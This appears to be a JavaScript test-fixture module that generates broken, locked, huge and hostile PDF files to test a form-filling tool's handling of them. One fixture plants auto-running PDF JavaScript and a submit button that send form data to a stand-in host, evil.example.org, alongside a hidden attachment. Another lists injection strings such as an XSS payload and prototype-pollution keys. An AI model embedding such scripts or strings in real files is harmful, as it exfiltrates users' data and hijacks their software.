// Files that are broken, of another kind, or made to do harm: what people have on their disks, and what nobody should.
// `says` is what the page tells, in English and in Spanish; files without it have to open.
import { authorization } from './fillable.mjs';
import { GREY } from './flat.mjs';
import { lib, newForm } from './pdf.mjs';

const { PDFDocument, PDFName, PDFString, PDFHexString } = lib;

const SCRIPT = 'app.alert("ran"); this.submitForm("https://evil.example.org/");';
export const SECRET = 'carried along without being asked';

const says = (en, es) => ({ en, es });
const name = (text) => PDFName.of(text);
const text = (words) => new TextEncoder().encode(words);

/** Files that cannot be worked on, each with what the person is told. */
export const UNFIT = [
  {
    name: 'a page of the web',
    bytes: () => text('<!doctype html><title>Not found</title>'),
    says: says(/not a PDF file/, /no es un archivo PDF/),
  },
  {
    name: 'an empty file',
    bytes: () => new Uint8Array(0),
    says: says(/file is empty/, /archivo está vacío/),
  },
  {
    name: 'a file of a word processor',
    bytes: () => text('PK\u0003\u0004word/document.xml'),
    says: says(/word processor/, /procesador de texto/),
  },
  { name: 'a picture', bytes: () => GREY, says: says(/a picture/, /una imagen/) },
  {
    name: 'the mark of a PDF with nothing behind it',
    bytes: () => text('%PDF-1.7\n'),
    says: says(/damaged or cut off/, /dañado o incompleto/),
  },
  {
    name: 'noise behind the mark of a PDF',
    bytes: () => Buffer.concat([text('%PDF-1.4\n'), noise(200_000)]),
    says: says(/damaged or cut off/, /dañado o incompleto/),
  },
  {
    name: 'the first half of a file',
    bytes: async () => (await authorization()).slice(0, 16_000),
    says: says(/damaged or cut off/, /dañado o incompleto/),
  },
  {
    name: '5,000 pages',
    bytes: () => pages(5000),
    says: says(/more than 100 pages/, /más de 100 páginas/),
  },
  {
    name: 'a file that opens with a password only',
    bytes: () => locked({ userPassword: 'opensesame', ownerPassword: 'owner' }),
    says: says(/only with a password/, /contraseña/),
  },
  {
    name: 'a form for Adobe’s own program',
    bytes: () => xfa({ alone: true }),
    says: says(/XFA/, /XFA/),
  },
];

/** Files that open, and are filled as far as they can be. */
export const FIT = [
  {
    name: 'a file that its maker has locked',
    bytes: () => locked({ ownerPassword: 'owner', permissions: {} }),
    says: says(/locked it against changes/, /lo bloqueó/),
  },
  { name: 'scripts and files within', bytes: armed },
  { name: 'names of fields that want to be code', bytes: names },
  { name: 'a field that is its own child', bytes: () => cyclic('child') },
  { name: 'a field that is its own parent', bytes: () => cyclic('parent') },
  { name: 'a page of no size', bytes: flatPage },
  { name: 'fonts that are missing', bytes: withoutFonts },
  {
    name: 'a form that is in the file twice',
    bytes: () => xfa({ alone: false }),
    says: says(/holds its form twice/, /dos veces/),
  },
  { name: 'fields outside the page', bytes: outside },
  { name: 'thousands of fields', bytes: () => crowd(3000) },
  { name: '60 pages', bytes: () => pages(60) },
  { name: 'a file whose last lines are cut off', bytes: cut },
];

/** The same on every run. */
function noise(length) {
  const bytes = new Uint8Array(length);
  let seed = 5240;
  for (let i = 0; i < length; i++) {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    bytes[i] = seed >> 16;
  }
  return bytes;
}

export async function pages(count) {
  const { sheet, more, bytes } = await newForm();
  sheet.text('Patient name:', 60, 112);
  sheet.field('Patient name', [140, 99, 400, 116]);
  for (let i = 1; i < count; i++) {
    const next = more();
    if (count <= 100) {
      for (let line = 0; line < 60; line++) {
        next.text(
          `Page ${i + 1}, line ${line + 1}: what this notice says in many words`,
          60,
          60 + line * 11,
        );
      }
    }
  }
  return bytes();
}

async function locked(options) {
  const document = await PDFDocument.load(await authorization(), { updateMetadata: false });
  document.encrypt(options);
  return document.save();
}

/** Two fields, and what stands in their way. */
async function small() {
  const made = await newForm();
  made.sheet.text('Patient name:', 60, 112);
  const field = made.sheet.field('Patient name', [140, 99, 400, 116]);
  made.sheet.text('Date of birth:', 60, 142);
  made.sheet.field('Date of birth', [140, 129, 260, 146]);
  return { ...made, field };
}

async function armed() {
  const { document, form, sheet, field, bytes } = await small();
  const { context, catalog } = document;
  const script = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(SCRIPT) });
  const stream = context.register(context.stream(SCRIPT));
  document.addJavaScript('boot', SCRIPT);
  catalog.set(name('OpenAction'), context.obj({ S: 'JavaScript', JS: stream }));
  catalog.set(name('AA'), context.obj({ WS: script(), DP: script() }));
  sheet.page.node.set(name('AA'), context.obj({ O: context.register(script()) }));
  field.acroField.dict.set(name('AA'), context.obj({ K: script(), F: script(), C: script() }));
  field.acroField.getWidgets()[0].dict.set(name('A'), script());
  // Behind a harmless action, and in a box that is no object of its own.
  const link = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 600, 50],
    A: { S: 'URI', URI: PDFString.of('https://example.org/'), Next: [script()] },
    AA: { E: script() },
  });
  sheet.page.node.Annots().push(link);
  const button = form.createButton('send');
  button.addToPage('Send', sheet.page, sheet.place([400, 700, 500, 720]));
  button.acroField
    .getWidgets()[0]
    .dict.set(
      name('A'),
      context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example.org/') }),
    );
  await document.attach(text(SECRET), 'secret.txt', { mimeType: 'text/plain' });
  return bytes();
}

export const HOSTILE_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  '<img src=x onerror="document.title=1">',
  '"}];alert(1)//',
  'bell\u0007 and \u0000 null \u202e turned',
  'n'.repeat(10_000),
];

async function names() {
  const { sheet, bytes } = await small();
  for (const [i, odd] of HOSTILE_NAMES.entries()) {
    sheet.text(i === 0 ? 'Telephone:' : `Other words ${i}:`, 60, 200 + i * 30);
    const field = sheet.field(`odd${i}`, [160, 187 + i * 30, 400, 204 + i * 30]);
    field.acroField.dict.set(name('T'), PDFHexString.fromText(odd));
    field.acroField.dict.set(name('TU'), PDFHexString.fromText(odd));
  }
  return bytes({ updateFieldAppearances: false });
}

async function cyclic(way) {
  const { document, sheet, bytes } = await small();
  const { ref } = sheet.raw({ T: PDFString.of('circle'), FT: 'Tx' }, [140, 199, 400, 216]);
  const dict = document.context.lookup(ref);
  if (way === 'child') {
    dict.set(name('Kids'), document.context.obj([ref, ref]));
  } else {
    dict.set(name('Parent'), ref);
  }
  return bytes({ updateFieldAppearances: false });
}

async function flatPage() {
  const { more, bytes } = await small();
  more().page.setMediaBox(0, 0, 0, 0);
  return bytes();
}

async function withoutFonts() {
  const { document, sheet, field, bytes } = await small();
  sheet.page.pushOperators(
    lib.PDFOperator.of('BT'),
    lib.PDFOperator.of('Tf', [name('Nowhere'), document.context.obj(12)]),
    lib.PDFOperator.of('Tj', [PDFString.of('in a font that is not there')]),
    lib.PDFOperator.of('ET'),
  );
  field.acroField.setDefaultAppearance('/Nowhere 12 Tf 0 g');
  document.getForm().acroForm.dict.delete(name('DR'));
  return bytes();
}

async function xfa({ alone }) {
  const { document, form, bytes } = alone ? await newForm() : await small();
  const template =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
    '<subform name="form1"><field name="TextField1"><ui><textEdit/></ui></field></subform></template></xdp:xdp>';
  const part = document.context.register(document.context.stream(template));
  form.acroForm.dict.set(name('XFA'), part);
  if (alone) {
    document.catalog.set(name('NeedsRendering'), document.context.obj(true));
  }
  // Else pdf-lib takes it out again.
  document.preserveXFA = true;
  return bytes();
}

async function outside() {
  const { sheet, bytes } = await small();
  sheet.field('far away', [5000, 5000, 5100, 5020]);
  sheet.field('before', [-300, -300, -200, -280]);
  sheet.field('flat', [100, 300, 100, 300]);
  return bytes();
}

async function crowd(count) {
  const { sheet, more, bytes } = await small();
  let page = sheet;
  for (let i = 0; i < count; i++) {
    if (i % 500 === 0) {
      page = more();
    }
    const left = 20 + (i % 20) * 28;
    const top = 20 + Math.floor((i % 500) / 20) * 29;
    page.raw({ FT: 'Tx', T: PDFString.of(`c${i}`), DA: PDFString.of('/Helv 0 Tf 0 g') }, [
      left,
      top,
      left + 24,
      top + 14,
    ]);
  }
  return bytes();
}

async function cut() {
  const whole = await authorization({ useObjectStreams: false });
  return whole.slice(0, whole.length - 20);
}
